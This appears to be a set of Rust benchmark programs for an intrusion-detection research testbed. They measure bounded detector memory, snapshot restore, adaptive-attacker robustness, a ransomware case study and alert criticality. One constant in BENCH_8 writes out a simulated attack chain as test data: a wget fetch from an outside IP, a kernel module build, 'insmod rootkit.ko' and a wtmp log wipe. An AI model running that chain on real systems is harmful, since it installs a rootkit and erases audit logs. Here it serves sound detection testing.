        assert!(
            fp_pass,
            "FP budget gate failed: {fp_ratio:.2}x over the uncorrelated reference"
        );
    } else if !(recovery_pass && fp_pass) {
        println!(
            "NOTE: quality gates not enforced ({})",
            if scale < 1.0 {
                format!("BENCH_SCALE={scale} < 1")
            } else {
                "BENCH_ENFORCE=0".to_string()
            }
        );
    }
}
