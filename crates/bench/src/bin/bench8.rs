//! BENCH_8 — multi-tenant service core: bounded entity state under
//! million-entity churn, and restart safety through the snapshot wire
//! format.
//!
//! A long-lived service deployment cannot let per-entity detector state
//! grow with every address that ever probed the border. This bench
//! drives a churn workload of ~1M distinct entities (one short-lived
//! benign session each, an S1 kernel-module attack chain woven in every
//! thousand entities) through the `detect_max_entities`-bounded pipeline
//! and gates on four properties:
//!
//! - **Bounded memory** — with a 4096-entity budget and a 15-minute
//!   session timeout, resident tagger state stays at/under the budget
//!   while millions of entities stream past (eviction demonstrably
//!   active, witnessed through the service snapshot).
//! - **Detection neutrality** — the bounded pipeline's detection stream
//!   is byte-identical to the unbounded baseline's: eviction only sweeps
//!   state the temporal policy already declares dead, and detection
//!   latches survive eviction.
//! - **Restart safety** — snapshotting the tenant halfway, writing the
//!   snapshot through its JSON wire format to a fixture file, restoring
//!   it into a *fresh* service and replaying the tail must drift by
//!   exactly **0 detections** from the uninterrupted run.
//! - **Steady-state allocations** — the warmed
//!   symbolize → filter → observe path over resident entities stays
//!   allocation-free (≤ 7e-6 allocs/record) with the entity budget
//!   armed.
//!
//! Emits `BENCH_8.json` (at the workspace root, or `$BENCH_OUT`) and the
//! restart fixture `BENCH_8_snapshot.json` (`$BENCH_SNAPSHOT_OUT`).
//! Run with: `cargo run --release -p bench --bin bench8`
//! Scale the workload with `BENCH_SCALE` (default 1.0; CI uses 0.2).

use std::time::Instant;

use bench::detection_bytes;
use detect::attack_tagger::{AttackTagger, TaggerConfig, TemporalPolicy};
use detect::train::toy_training_model;
use simnet::alloc_count::{allocations, CountingAllocator};
use simnet::intern::{SymScope, TenantId};
use simnet::time::{SimDuration, SimTime};
use telemetry::record::{LogRecord, ProcessRecord};
use testbed::stage::{BuiltPipeline, PipelineBuilder};
use testbed::{ServiceConfig, ServiceHandle, ServiceSnapshot};

#[global_allocator]
static GLOBAL: CountingAllocator = CountingAllocator;

/// Per-entity detector state budget the bounded runs arm.
const BUDGET: usize = 4096;
/// One attack chain is woven in per this many benign churn entities.
const ATTACK_EVERY: usize = 1_000;
/// Idle gap after which churn entities are provably dead (and thus
/// evictable without touching detection).
const SESSION_TIMEOUT: SimDuration = SimDuration::from_mins(15);
const ALLOC_GATE_PER_RECORD: f64 = 7e-6;
/// The S1 kernel-module chain (wget → make → insmod → log wipe) every
/// woven-in attacker executes; detected by the toy-trained model.
const S1_CHAIN: [&str; 4] = [
    "wget http://64.215.4.5/abs.c",
    "make -C /lib/modules/4.4/build modules",
    "insmod rootkit.ko",
    "echo 0>/var/log/wtmp",
];

fn exec_record(user: &str, ts: SimTime, cmdline: &str) -> LogRecord {
    LogRecord::Process(ProcessRecord {
        ts,
        host: simnet::topology::HostId(0),
        hostname: "cn01".into(),
        user: user.into(),
        pid: 4_000,
        ppid: 1,
        exe: "/bin/sh".into(),
        cmdline: cmdline.into(),
    })
}

/// The churn workload: `entities` distinct users, one benign exec each,
/// one second apart — so state ages past the session timeout and the
/// budget sweep always has provably-dead entries to reclaim — with an S1
/// attack chain (60 s cadence, well inside the timeout) every
/// [`ATTACK_EVERY`] entities. Returns the records and the attacker count.
fn churn_workload(entities: usize) -> (Vec<LogRecord>, usize) {
    let mut records = Vec::with_capacity(entities + 4 * entities / ATTACK_EVERY + 4);
    let mut attackers = 0;
    for i in 0..entities {
        let base = SimTime::from_secs(i as u64);
        records.push(exec_record(
            &format!("churn{i}"),
            base,
            "cat ~/.bash_history",
        ));
        if i % ATTACK_EVERY == 0 {
            attackers += 1;
            for (k, c) in S1_CHAIN.iter().enumerate() {
                records.push(exec_record(
                    &format!("mallory{attackers}"),
                    base + SimDuration::from_secs(1 + 60 * k as u64),
                    c,
                ));
            }
        }
    }
    records.sort_by_key(|r| match r {
        LogRecord::Process(p) => p.ts,
        _ => SimTime::from_secs(0),
    });
    (records, attackers)
}

fn pipeline(max_entities: usize, scope: SymScope) -> BuiltPipeline {
    PipelineBuilder::new()
        .tagger(AttackTagger::new(
            toy_training_model(),
            TaggerConfig::default(),
        ))
        .temporal(TemporalPolicy {
            session_timeout: Some(SESSION_TIMEOUT),
            ..TemporalPolicy::default()
        })
        .detect_max_entities(max_entities)
        .scope(scope)
        .build()
}

fn service(max_entities: usize) -> ServiceHandle {
    ServiceHandle::spawn(ServiceConfig::default(), move |_, scope| {
        pipeline(max_entities, scope)
    })
}

fn ingest_all(svc: &ServiceHandle, tenant: TenantId, records: &[LogRecord]) {
    for chunk in records.chunks(BUDGET) {
        svc.ingest(tenant, chunk.to_vec()).expect("worker alive");
    }
}

fn main() {
    let scale: f64 = std::env::var("BENCH_SCALE")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(1.0);
    bench::banner("BENCH_8: service core — bounded entity state & restart safety");

    let entities = ((1_000_000.0 * scale) as usize).max(20_000);
    let (records, attackers) = churn_workload(entities);
    let n = records.len();
    println!("workload: {n} records, {entities} distinct churn entities, {attackers} attackers");

    // Detection neutrality: bounded vs unbounded, byte for byte.
    let t0 = Instant::now();
    let unbounded = pipeline(0, SymScope::global()).run_inline(records.clone());
    let unbounded_s = t0.elapsed().as_secs_f64();
    let t0 = Instant::now();
    let bounded = pipeline(BUDGET, SymScope::global()).run_inline(records.clone());
    let bounded_s = t0.elapsed().as_secs_f64();
    let byte_identical = detection_bytes(&bounded) == detection_bytes(&unbounded)
        && bounded.stats == unbounded.stats;
    assert!(
        byte_identical,
        "entity budget changed the detection stream ({} vs {} detections)",
        bounded.stats.detections, unbounded.stats.detections
    );
    assert_eq!(
        bounded.stats.detections, attackers as u64,
        "every woven-in S1 chain must be detected"
    );
    println!(
        "neutrality: {} detections bounded and unbounded, byte-identical \
         (inline {unbounded_s:.3}s unbounded, {bounded_s:.3}s bounded)",
        bounded.stats.detections
    );

    // Bounded memory, witnessed through the service snapshot: resident
    // tagger state at/under budget, eviction counter running.
    let tenant = TenantId(8);
    let svc = service(BUDGET);
    ingest_all(&svc, tenant, &records);
    let snap = svc.snapshot(tenant).expect("live tenant");
    let tagger_snap = snap.tagger.as_ref().expect("tagger pipeline");
    let resident = tagger_snap.entities.len();
    let evicted = tagger_snap.entities_evicted;
    let bounded_memory = resident <= BUDGET && evicted > 0;
    let full_report = svc.evict_tenant(tenant).expect("live tenant");
    drop(svc);
    assert_eq!(
        detection_bytes(&full_report),
        detection_bytes(&bounded),
        "service ingestion must match the inline run byte for byte"
    );
    println!(
        "bounded memory: {resident} resident entities (budget {BUDGET}), {evicted} evicted -> {}",
        if bounded_memory { "PASS" } else { "FAIL" }
    );

    // Restart safety: snapshot at half-stream, through the JSON fixture
    // on disk, into a fresh service; the stitched detection stream must
    // equal the uninterrupted one exactly.
    let split = n / 2;
    let first = service(BUDGET);
    ingest_all(&first, tenant, &records[..split]);
    let mid = first.snapshot(tenant).expect("live tenant");
    let head_report = first.shutdown().pop().expect("one live tenant reports").1;
    let fixture =
        std::env::var("BENCH_SNAPSHOT_OUT").unwrap_or_else(|_| "BENCH_8_snapshot.json".to_string());
    std::fs::write(&fixture, mid.to_json()).expect("write snapshot fixture");
    let wire = std::fs::read_to_string(&fixture).expect("read snapshot fixture");
    let restored = ServiceSnapshot::from_json(&wire).expect("fixture parses");
    assert_eq!(restored, mid, "wire format must round-trip losslessly");
    println!("[artifact] {fixture}");

    let second = service(BUDGET);
    second.restore(restored).expect("snapshot fits the factory");
    ingest_all(&second, tenant, &records[split..]);
    let tail_report = second.shutdown().pop().expect("one live tenant reports").1;
    let stitched = format!(
        "{}{}",
        detection_bytes(&head_report),
        detection_bytes(&tail_report)
    );
    let full_bytes = detection_bytes(&full_report);
    // Tail-report counters are cumulative (restored from the snapshot),
    // so any drift shows up directly against the uninterrupted run.
    let drift_detections =
        tail_report.stats.detections as i64 - full_report.stats.detections as i64;
    let restart_safe = stitched == full_bytes && tail_report.stats == full_report.stats;
    assert!(
        restart_safe,
        "snapshot/restore drifted: {drift_detections} detections \
         ({} stitched-cumulative vs {} uninterrupted)",
        tail_report.stats.detections, full_report.stats.detections
    );
    println!("restart safety: snapshot at record {split}, 0 detections drifted -> PASS");

    // Steady-state allocations with the budget armed: a warmed pass over
    // resident entities (512 users cycling well inside the timeout) must
    // not allocate.
    let steady_n = n.min(500_000);
    let steady: Vec<LogRecord> = (0..steady_n)
        .map(|i| {
            exec_record(
                &format!("resident{}", i % 512),
                SimTime::from_secs(i as u64),
                "cat ~/.bash_history",
            )
        })
        .collect();
    let mut sym = alertlib::Symbolizer::with_defaults();
    let mut filt = alertlib::ScanFilter::default();
    let mut tagger = AttackTagger::new(toy_training_model(), TaggerConfig::default());
    tagger.set_max_entities(BUDGET);
    let mut alerts = Vec::with_capacity(64);
    for r in &steady {
        alerts.clear();
        sym.symbolize_into(r, &mut alerts);
        for a in &alerts {
            if filt.admit(a) {
                tagger.observe(a);
            }
        }
    }
    let (steady_allocs, _) = allocations(|| {
        let mut d = 0u64;
        for r in &steady {
            alerts.clear();
            sym.symbolize_into(r, &mut alerts);
            for a in &alerts {
                if filt.admit(a) && tagger.observe(a).is_some() {
                    d += 1;
                }
            }
        }
        d
    });
    let steady_allocs_per_record = steady_allocs as f64 / steady_n as f64;
    let alloc_pass = steady_allocs_per_record <= ALLOC_GATE_PER_RECORD;
    println!(
        "allocations: {steady_allocs_per_record:.9}/record steady-state \
         (limit {ALLOC_GATE_PER_RECORD:e}) -> {}",
        if alloc_pass { "PASS" } else { "FAIL" }
    );

    let artifact = serde_json::json!({
        "workload": {
            "entities": entities,
            "records": n,
            "attackers": attackers,
            "scale": scale,
            "budget": BUDGET,
            "session_timeout_secs": SESSION_TIMEOUT.as_secs(),
        },
        "detections": bounded.stats.detections,
        "detections_byte_identical": byte_identical,
        "bounded_memory": bounded_memory,
        "timing": {
            "inline_unbounded_seconds": unbounded_s,
            "inline_bounded_seconds": bounded_s,
        },
        "acceptance": {
            "bounded_memory": {
                "resident_entities": resident,
                "budget": BUDGET,
                "entities_evicted": evicted,
                "pass": bounded_memory,
            },
            "detection_neutrality": {
                "pass": byte_identical,
            },
            "snapshot_restore": {
                "split_record": split,
                "drift_detections": drift_detections,
                "fixture": fixture,
                "pass": restart_safe,
            },
            "steady_state_allocations": {
                "per_record": steady_allocs_per_record,
                "limit": ALLOC_GATE_PER_RECORD,
                "pass": alloc_pass,
            },
        },
    });
    let out = std::env::var("BENCH_OUT").unwrap_or_else(|_| "BENCH_8.json".to_string());
    std::fs::write(
        &out,
        serde_json::to_string_pretty(&artifact).expect("serialize"),
    )
    .expect("write BENCH_8.json");
    println!("[artifact] {out}");

    // All four gates are determinism/accounting properties and hold at
    // any scale; they are hard at every BENCH_SCALE.
    assert!(
        bounded_memory,
        "resident state exceeded the entity budget ({resident} > {BUDGET}) or never evicted"
    );
    assert!(alloc_pass, "steady-state allocations per record regressed");
}
