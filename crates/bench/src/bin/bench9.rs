//! BENCH_9 — closed-loop adaptive attackers: the worst-case robustness
//! frontier and reactive evasion in the detect→respond→adapt loop.
//!
//! Three phases, all deterministic under the fixed seed:
//!
//! 1. **Worst-case frontier** — per attack family, a seeded hill-climb
//!    ([`testbed::worst_case_frontier`]) over the `MutationConfig` space
//!    maximizing missed damage. The converged per-family worst config is
//!    attached to the artifact, and the whole search is run twice and
//!    asserted identical (hard, at any scale).
//! 2. **Reactive vs open loop** — the same seeded campaign driven through
//!    [`testbed::run_reactive_campaign`] twice: once with the default
//!    reactive policy (attacker rotates / stretches / re-splits on every
//!    observed block decision) and once open-loop. Gates: no block is
//!    permanently lost in either arm (hard), the recorded closed-loop
//!    stream replays byte-identically through the inline, threaded, and
//!    sharded executors (hard), and reactive preemption stays within
//!    0.80x of the open-loop baseline (full scale).
//! 3. **Learning curve** — models trained on growing longitudinal corpora
//!    (20/60/120/228 incidents) replay one fixed adversarial campaign;
//!    the curve must be monotone up to ±0.10 noise with the largest
//!    corpus no worse than the smallest (full scale).
//!
//! Emits `BENCH_9.json` (at the workspace root, or `$BENCH_OUT`).
//! Run with: `cargo run --release -p bench --bin bench9`
//! Scale the workload with `BENCH_SCALE` (default 1.0; CI uses 0.2 —
//! the quality gates are asserted at full scale, recorded otherwise).

use std::time::Instant;

use bench::detection_bytes;
use detect::CorrelationPolicy;
use scenario::adapt::ReactivePolicy;
use scenario::library::standard_library;
use scenario::mutate::CampaignConfig;
use simnet::alloc_count::CountingAllocator;
use simnet::time::SimDuration;
use testbed::adapt::{learning_curve, run_reactive_campaign, worst_case_frontier, FrontierConfig};
use testbed::stage::PipelineBuilder;
use testbed::TestbedConfig;

#[global_allocator]
static GLOBAL: CountingAllocator = CountingAllocator;

/// Reactive preemption must stay within this fraction of the paired
/// open-loop baseline: evasion buys the attacker tempo, not immunity.
const REACTIVE_PREEMPTION_RATIO: f64 = 0.80;
/// Adjacent learning-curve points may dip at most this much (sampling
/// noise on a finite campaign); the endpoints must still be ordered.
const CURVE_NOISE_TOL: f64 = 0.10;
/// Longitudinal corpus sizes swept by the learning curve. 228 is the
/// paper's full corpus; critical occurrences scale proportionally (98 at
/// full size).
const CURVE_SIZES: [usize; 4] = [20, 60, 120, 228];

fn reactive_campaign_cfg(scale: f64) -> CampaignConfig {
    let mut cfg = CampaignConfig {
        sessions: ((120.0 * scale) as usize).max(12),
        horizon: SimDuration::from_days(2),
        families: standard_library(),
        background: None,
        ..CampaignConfig::default()
    };
    // Every session is a real kill chain (no decoys), stretched enough
    // that block decisions land mid-session and feedback matters.
    cfg.mutation.decoy_prob = 0.0;
    cfg.mutation.dilation = 4.0;
    cfg
}

fn curve_model(incidents: usize) -> factorgraph::chain::ChainModel {
    let corpus = scenario::generate_corpus(&scenario::LongitudinalConfig {
        total_incidents: incidents,
        critical_occurrences: (98 * incidents / 228).max(1),
        ..scenario::LongitudinalConfig::default()
    });
    detect::train::train(
        &corpus,
        &bench::standard_benign(400),
        &detect::train::TrainConfig::default(),
    )
}

fn main() {
    let scale: f64 = std::env::var("BENCH_SCALE")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(1.0);
    bench::banner("BENCH_9: closed-loop adaptive attackers — frontier + reactive evasion");

    let mut cfg = TestbedConfig::default();
    cfg.tagger.correlation = Some(CorrelationPolicy::default());
    let cores = rayon::current_num_threads();
    let model = bench::standard_model();

    // ---- Phase 1: per-family worst-case robustness frontier -------------
    let fcfg = FrontierConfig {
        probes: ((12.0 * scale) as usize).max(4),
        sessions: ((48.0 * scale) as usize).max(8),
        horizon: SimDuration::from_days(2),
        ..FrontierConfig::default()
    };
    let families = standard_library();
    let t0 = Instant::now();
    let frontier = worst_case_frontier(&cfg, &model, &families, &fcfg);
    let frontier_s = t0.elapsed().as_secs_f64();
    // Determinism is a correctness property, not a quality gate: the
    // search must replay exactly at any scale.
    let rerun = worst_case_frontier(&cfg, &model, &families, &fcfg);
    assert_eq!(
        frontier, rerun,
        "frontier search must be seed-deterministic"
    );

    println!(
        "{:<16} {:>8} {:>9} {:>9} {:>7} {:>6} {:>6} {:>9}",
        "family", "worst p%", "base p%", "lead med", "dilate", "drop", "lat", "accepted"
    );
    let mut frontier_json = Vec::new();
    for p in &frontier {
        println!(
            "{:<16} {:>7.1}% {:>8.1}% {:>8.1}s {:>7.2} {:>6.2} {:>6.2} {:>6}/{}",
            p.family,
            p.preemption_rate * 100.0,
            p.baseline_preemption * 100.0,
            p.lead_median_secs,
            p.config.dilation,
            p.config.drop_prob,
            p.config.lateral_prob,
            p.accepted,
            p.probes,
        );
        frontier_json.push(serde_json::json!({
            "family": p.family.as_str(),
            "preemption_rate": p.preemption_rate,
            "missed_damage_rate": p.missed_damage_rate,
            "lead_median_secs": p.lead_median_secs,
            "baseline_preemption": p.baseline_preemption,
            "probes": p.probes,
            "accepted": p.accepted,
            "config": {
                "drop_prob": p.config.drop_prob,
                "swap_prob": p.config.swap_prob,
                "noise_steps": p.config.noise_steps,
                "dilation": p.config.dilation,
                "decoy_prob": p.config.decoy_prob,
                "lateral_prob": p.config.lateral_prob,
                "max_lateral_entities": p.config.max_lateral_entities,
                "force_damage": p.config.force_damage,
            },
        }));
    }
    let worst_overall = frontier
        .iter()
        .map(|p| p.preemption_rate)
        .fold(f64::INFINITY, f64::min);
    println!(
        "frontier: {} families, worst-case preemption {:.1}%, searched in {:.1}s (x2 for determinism)\n",
        frontier.len(),
        worst_overall * 100.0,
        frontier_s,
    );

    // ---- Phase 2: reactive evasion vs the open-loop baseline ------------
    let ccfg = reactive_campaign_cfg(scale);
    let round = SimDuration::from_mins(10);
    let t0 = Instant::now();
    let closed = run_reactive_campaign(
        &cfg,
        &ccfg,
        model.clone(),
        Some(ReactivePolicy::default()),
        round,
    );
    let closed_s = t0.elapsed().as_secs_f64();
    let open = run_reactive_campaign(&cfg, &ccfg, model.clone(), None, round);

    // The response path must never permanently lose a block in either arm.
    assert_eq!(
        closed.stream.blocks_abandoned, 0,
        "closed loop permanently lost blocks"
    );
    assert_eq!(
        open.stream.blocks_abandoned, 0,
        "open loop permanently lost blocks"
    );

    // Replay the recorded closed-loop stream through all three executors:
    // adaptivity must not break executor equivalence (hard, any scale).
    let closed_bytes = detection_bytes(&closed.stream);
    let inline = PipelineBuilder::from_config(&cfg, model.clone())
        .build()
        .run_inline(closed.records.clone());
    let threaded = PipelineBuilder::from_config(&cfg, model.clone())
        .build()
        .run_threaded(closed.records.clone());
    let sharded = PipelineBuilder::from_config(&cfg, model.clone())
        .detect_shards(4)
        .build()
        .run_sharded(closed.records.clone());
    for (name, replay) in [
        ("inline", &inline),
        ("threaded", &threaded),
        ("sharded", &sharded),
    ] {
        assert_eq!(
            closed_bytes,
            detection_bytes(replay),
            "{name} replay of the closed-loop stream must be byte-identical"
        );
        assert_eq!(closed.stream.stats, replay.stats);
    }

    let open_p = open.eval.overall.preemption_rate;
    let closed_p = closed.eval.overall.preemption_rate;
    let preemption_ratio = if open_p > 0.0 { closed_p / open_p } else { 1.0 };
    let reactive_pass = preemption_ratio >= REACTIVE_PREEMPTION_RATIO;
    println!(
        "reactive loop : {} records, {} rounds, {} rotations ({} re-splits, {} fresh entities, \
         {} tempo stretches), {:.1}s",
        closed.records.len(),
        closed.rounds,
        closed.stats.rotations,
        closed.stats.resplits,
        closed.stats.fresh_entities,
        closed.stats.tempo_stretches,
        closed_s,
    );
    println!(
        "preemption    : reactive {:.1}% vs open-loop {:.1}% ({:.2}x, floor {:.2}x) -> {}",
        closed_p * 100.0,
        open_p * 100.0,
        preemption_ratio,
        REACTIVE_PREEMPTION_RATIO,
        if reactive_pass { "PASS" } else { "FAIL" },
    );

    // ---- Phase 3: corpus learning curve under mutation -------------------
    let models: Vec<(usize, factorgraph::chain::ChainModel)> =
        CURVE_SIZES.iter().map(|&k| (k, curve_model(k))).collect();
    let curve_ccfg = CampaignConfig {
        sessions: ((120.0 * scale) as usize).max(16),
        horizon: SimDuration::from_days(2),
        families: standard_library(),
        background: None,
        ..CampaignConfig::default()
    };
    let curve = learning_curve(&cfg, &curve_ccfg, &models);
    let mut curve_monotone = true;
    for w in curve.windows(2) {
        if w[1].preemption_rate < w[0].preemption_rate - CURVE_NOISE_TOL {
            curve_monotone = false;
        }
    }
    let curve_ordered = curve
        .last()
        .zip(curve.first())
        .is_some_and(|(last, first)| last.preemption_rate >= first.preemption_rate);
    let curve_pass = curve_monotone && curve_ordered;
    println!(
        "\n{:<10} {:>12} {:>12}",
        "incidents", "preempt %", "detect %"
    );
    let mut curve_json = Vec::new();
    for p in &curve {
        println!(
            "{:<10} {:>11.1}% {:>11.1}%",
            p.corpus_incidents,
            p.preemption_rate * 100.0,
            p.detection_rate * 100.0,
        );
        curve_json.push(serde_json::json!({
            "corpus_incidents": p.corpus_incidents,
            "preemption_rate": p.preemption_rate,
            "detection_rate": p.detection_rate,
        }));
    }
    println!(
        "learning curve: monotone(±{CURVE_NOISE_TOL}) {}, endpoints ordered {} -> {}",
        curve_monotone,
        curve_ordered,
        if curve_pass { "PASS" } else { "FAIL" },
    );

    let artifact = serde_json::json!({
        "workload": {
            "scale": scale,
            "seed": cfg.seed,
            "frontier_probes": fcfg.probes,
            "frontier_sessions": fcfg.sessions,
            "reactive_sessions": ccfg.sessions,
            "round_secs": round.as_secs_f64(),
            "curve_sizes": CURVE_SIZES.to_vec(),
        },
        "cores": cores,
        "frontier": serde_json::Value::Array(frontier_json),
        "frontier_worst_preemption": worst_overall,
        "frontier_seconds": frontier_s,
        "reactive": {
            "records": closed.records.len(),
            "rounds": closed.rounds,
            "rotations": closed.stats.rotations,
            "resplits": closed.stats.resplits,
            "fresh_entities": closed.stats.fresh_entities,
            "tempo_stretches": closed.stats.tempo_stretches,
            "preemption_rate": closed_p,
            "open_loop_preemption_rate": open_p,
            "preemption_ratio": preemption_ratio,
            "blocks_abandoned": closed.stream.blocks_abandoned,
            "open_loop_blocks_abandoned": open.stream.blocks_abandoned,
            "closed_loop_seconds": closed_s,
        },
        "learning_curve": serde_json::Value::Array(curve_json),
        "detections_byte_identical": true,
        "acceptance": {
            "frontier_deterministic": {
                "pass": true,
            },
            "reactive_no_lost_blocks": {
                "pass": true,
            },
            "executor_replay_byte_identical": {
                "pass": true,
            },
            "reactive_preemption_ratio": {
                "min_ratio": REACTIVE_PREEMPTION_RATIO,
                "ratio": preemption_ratio,
                "applicable": scale >= 1.0,
                "pass": scale < 1.0 || reactive_pass,
            },
            "learning_curve_monotone": {
                "noise_tolerance": CURVE_NOISE_TOL,
                "applicable": scale >= 1.0,
                "pass": scale < 1.0 || curve_pass,
            },
        },
    });
    let out = std::env::var("BENCH_OUT").unwrap_or_else(|_| "BENCH_9.json".to_string());
    std::fs::write(
        &out,
        serde_json::to_string_pretty(&artifact).expect("serialize"),
    )
    .expect("write BENCH_9.json");
    println!("[artifact] {out}");

    // Hard gates at full scale; determinism, byte-identity, and lost-block
    // invariants were asserted unconditionally above.
    let enforce = std::env::var("BENCH_ENFORCE").map_or(true, |v| v != "0");
    if enforce && scale >= 1.0 {
        assert!(
            reactive_pass,
            "reactive evasion gate failed: {preemption_ratio:.2}x of open-loop preemption \
             (floor {REACTIVE_PREEMPTION_RATIO:.2}x)"
        );
        assert!(
            curve_pass,
            "learning curve gate failed: monotone {curve_monotone}, ordered {curve_ordered}"
        );
    } else if !(reactive_pass && curve_pass) {
        println!(
            "NOTE: quality gates not enforced ({})",
            if scale < 1.0 {
                format!("BENCH_SCALE={scale} < 1")
            } else {
                "BENCH_ENFORCE=0".to_string()
            }
        );
    }
}
