//! E9 — the §V ransomware case study, with detector comparison.
//!
//! Replays the scripted ransomware against the deployed honeynet and
//! measures, for each detector (factor-graph AttackTagger, rule-based,
//! critical-only): detection time, whether it preempted the C2 step, and
//! the lead over the production wave (paper: twelve days).

use bench::{banner, compare, write_artifact};
use detect::{AttackTagger, CriticalOnlyDetector, RuleBasedDetector, TaggerConfig};
use scenario::{build_scenario, RansomwareConfig};
use simnet::time::SimTime;
use testbed::{Testbed, TestbedConfig};

fn main() {
    banner("Ransomware case study (E9)");
    let rw = RansomwareConfig::default();
    let mut cfg = TestbedConfig::default();
    cfg.c2_feed.push(rw.c2_server);
    let mut tb = Testbed::new(cfg);
    tb.set_model(bench::standard_model());

    let scenario = {
        let topo = tb.topology().clone();
        build_scenario(&topo, tb.deployment_mut(), &rw)
    };
    let c2_time = scenario.c2_time;
    let production_time = scenario.production_time;
    println!("scripted actions     : {}", scenario.actions.len());
    println!("C2 communication at  : {c2_time}");
    println!("production wave at   : {production_time}");

    tb.schedule(scenario.actions);
    let t0 = std::time::Instant::now();
    let report = tb.run();
    println!("pipeline run in {:?}", t0.elapsed());

    let first = report
        .first_notification()
        .expect("must detect the ransomware");
    let lead = production_time - first;
    let lead_days = lead.as_secs_f64() / 86_400.0;
    println!("\nfull-testbed first notification: {first}");
    println!("lead over production wave      : {lead} ({lead_days:.2} days)");
    compare("lead days", lead_days.round(), 12.0);
    assert!(first <= c2_time, "preemption no later than the C2 step");

    // Detector comparison on the honeypot-phase alert session (what each
    // model would have seen for the `postgres` entity). Replay the same
    // scripted scenario through bare monitors (no response loop) so every
    // alert survives for offline scanning.
    let session: Vec<alertlib::Alert> = {
        use simnet::engine::ActionSink;
        let mut topo = simnet::topology::NcsaTopologyBuilder::default().build();
        let mut dep =
            honeynet::HoneynetDeployment::install(&mut topo, &honeynet::DeployConfig::default());
        let replay = build_scenario(&topo, &mut dep, &rw);
        let mut engine = simnet::engine::Engine::new(topo, SimTime::from_date(2024, 10, 1));
        for (t, a) in replay.actions {
            engine.schedule(t, a);
        }
        let mut hub = telemetry::MonitorHub::standard();
        engine.run(&mut [&mut hub as &mut dyn ActionSink]);
        let mut symbolizer = {
            let mut scfg = alertlib::SymbolizerConfig::default();
            scfg.c2_addresses.insert(rw.c2_server);
            alertlib::Symbolizer::new(scfg)
        };
        let mut session = Vec::new();
        for r in hub.records() {
            for a in symbolizer.symbolize(r) {
                if a.entity == alertlib::Entity::User("postgres".into()) {
                    session.push(a);
                }
            }
        }
        session
    };
    println!(
        "\nhoneypot-phase session alerts for entity user:postgres: {}",
        session.len()
    );

    let tagger = AttackTagger::new(bench::standard_model(), TaggerConfig::default());
    let rules = RuleBasedDetector::with_default_rules();
    let critical = CriticalOnlyDetector::new();
    println!(
        "\n{:<16}{:>12}{:>20}{:>14}",
        "detector", "detected", "at alert index", "lead (days)"
    );
    let mut rows = Vec::new();
    for (name, det) in [
        ("attack-tagger", &tagger as &dyn detect::SequenceDetector),
        ("rule-based", &rules),
        ("critical-only", &critical),
    ] {
        let d = det.scan(&session);
        match d {
            Some(d) => {
                let lead_days = if d.ts < production_time {
                    (production_time - d.ts).as_days() as i64
                } else {
                    -((d.ts - production_time).as_days() as i64)
                };
                println!(
                    "{:<16}{:>12}{:>20}{:>14}",
                    name, "yes", d.alert_index, lead_days
                );
                rows.push(serde_json::json!({
                    "detector": name, "detected": true,
                    "alert_index": d.alert_index, "lead_days": lead_days,
                    "trigger": d.trigger.symbol(),
                }));
            }
            None => {
                println!("{:<16}{:>12}{:>20}{:>14}", name, "no", "-", "-");
                rows.push(serde_json::json!({"detector": name, "detected": false}));
            }
        }
    }

    write_artifact(
        "case_study",
        &serde_json::json!({
            "first_notification": format!("{first}"),
            "c2_time": format!("{c2_time}"),
            "production_time": format!("{production_time}"),
            "lead_days": lead.as_days(),
            "detections": report.detections,
            "detector_comparison": rows,
            "paper": {"lead_days": 12},
        }),
    );
}
