//! E7 — Insights 3 & 4: alert timing and criticality.
//!
//! Insight 3: automated-phase alert gaps are machine-paced; the manual
//! attack stage "exhibits significant variability".
//! Insight 4: "19 unique critical alerts, which occur 98 times"; when a
//! critical alert appears, preemption is already lost.

use bench::{banner, compare, write_artifact};
use mining::{compare_phase_timing, measure_criticality};

fn main() {
    banner("Insights 3 + 4: timing and criticality (E7)");
    let store = bench::standard_corpus();

    let crit = measure_criticality(&store);
    println!("unique critical kinds    : {}", crit.unique_critical_kinds);
    println!("critical occurrences     : {}", crit.critical_occurrences);
    println!(
        "incidents with criticals : {}/{}",
        crit.incidents_with_critical, crit.total_incidents
    );
    println!(
        "mean relative position of first critical: {:.3} (1.0 = last alert)",
        crit.mean_first_critical_position
    );
    println!(
        "mean preemption budget   : {:.1} alerts before damage",
        crit.mean_preemption_budget
    );
    println!();
    compare(
        "unique critical kinds",
        crit.unique_critical_kinds as f64,
        19.0,
    );
    compare(
        "critical occurrences",
        crit.critical_occurrences as f64,
        98.0,
    );
    assert!(
        crit.criticals_come_late(),
        "Insight 4: criticals must come late"
    );

    let timing = compare_phase_timing(&store).expect("corpus has both phases");
    println!();
    println!(
        "automated phase: {} gaps, mean {:.1}s, cv {:.2}",
        timing.automated.gaps, timing.automated.mean_gap_secs, timing.automated.cv
    );
    println!(
        "manual phase   : {} gaps, mean {:.1}s, cv {:.2}",
        timing.manual.gaps, timing.manual.mean_gap_secs, timing.manual.cv
    );
    println!(
        "manual phase more variable: {}",
        timing.manual_more_variable()
    );
    assert!(timing.manual_more_variable(), "Insight 3 must hold");

    write_artifact(
        "criticality",
        &serde_json::json!({
            "unique_critical_kinds": crit.unique_critical_kinds,
            "critical_occurrences": crit.critical_occurrences,
            "incidents_with_critical": crit.incidents_with_critical,
            "mean_first_critical_position": crit.mean_first_critical_position,
            "mean_preemption_budget": crit.mean_preemption_budget,
            "timing": {
                "automated_cv": timing.automated.cv,
                "manual_cv": timing.manual.cv,
                "automated_mean_gap_secs": timing.automated.mean_gap_secs,
                "manual_mean_gap_secs": timing.manual.mean_gap_secs,
            },
            "paper": {"unique_critical_kinds": 19, "critical_occurrences": 98},
        }),
    );
}
