//! E2 — Fig. 1: the attack graph.
//!
//! Builds the sampled connection graph (mass scanner star A, secondary
//! scanner C, legitimate traffic D, and the two-edge real attack B), lays
//! it out with multilevel Yifan Hu, checks the structural story, and
//! exports DOT + SVG.

use bench::{banner, compare, write_artifact};
use scenario::background::{fig1_flows, Fig1Config};
use simnet::rng::SimRng;
use vizgraph::{
    annotate_scanners, graph_from_flows, hub_dominance, layout, to_dot, to_svg, top_hubs,
    DotOptions, LayoutConfig, NodeGroup, SvgOptions,
};

fn main() {
    banner("Fig. 1: attack graph (E2)");
    let mut rng = SimRng::seed(20_240_801);
    let (flows, gt) = fig1_flows(&Fig1Config::default(), &mut rng);
    println!("flows sampled: {}", flows.len());

    let mut graph = graph_from_flows(&flows, |a| {
